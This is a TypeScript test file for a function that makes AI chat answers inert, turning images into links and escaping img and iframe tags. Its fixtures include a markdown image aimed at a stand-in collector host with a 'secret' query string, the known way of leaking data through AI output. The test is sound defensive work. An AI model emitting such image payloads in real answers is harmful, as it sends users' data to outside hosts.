// An answer shown as a markdown document loads nothing by itself: images become links, raw media tags
// text, and code blocks stay exactly as the model wrote them.
import * as assert from 'node:assert/strict';
import { inertMarkdown } from '../../../src/core/chat/inertMarkdown';

describe('inertMarkdown', () => {
  const cases: Array<[name: string, input: string, output: string]> = [
    ['an image becomes a link', 'See ![chart](https://collector.example/?q=secret) here', 'See [image: chart](https://collector.example/?q=secret) here'],
    ['two images on a line', '![a](x) and ![b](y)', '[image: a](x) and [image: b](y)'],
    ['a raw img tag becomes text', '<img src="https://collector.example/p.png">', '&lt;img src="https://collector.example/p.png">'],
    ['an iframe too', '<IFRAME src=x>', '&lt;IFRAME src=x>'],
    ['a plain link stays', '[docs](https://example.com)', '[docs](https://example.com)'],
    ['code inside a fence stays', '```ts\nconst a = "![x](y)";\n```\n![z](w)', '```ts\nconst a = "![x](y)";\n```\n[image: z](w)'],
    ['a tilde fence too', '~~~\n<img src=q>\n~~~', '~~~\n<img src=q>\n~~~'],
  ];
  for (const [name, input, output] of cases) it(name, () => assert.equal(inertMarkdown(input), output));
});
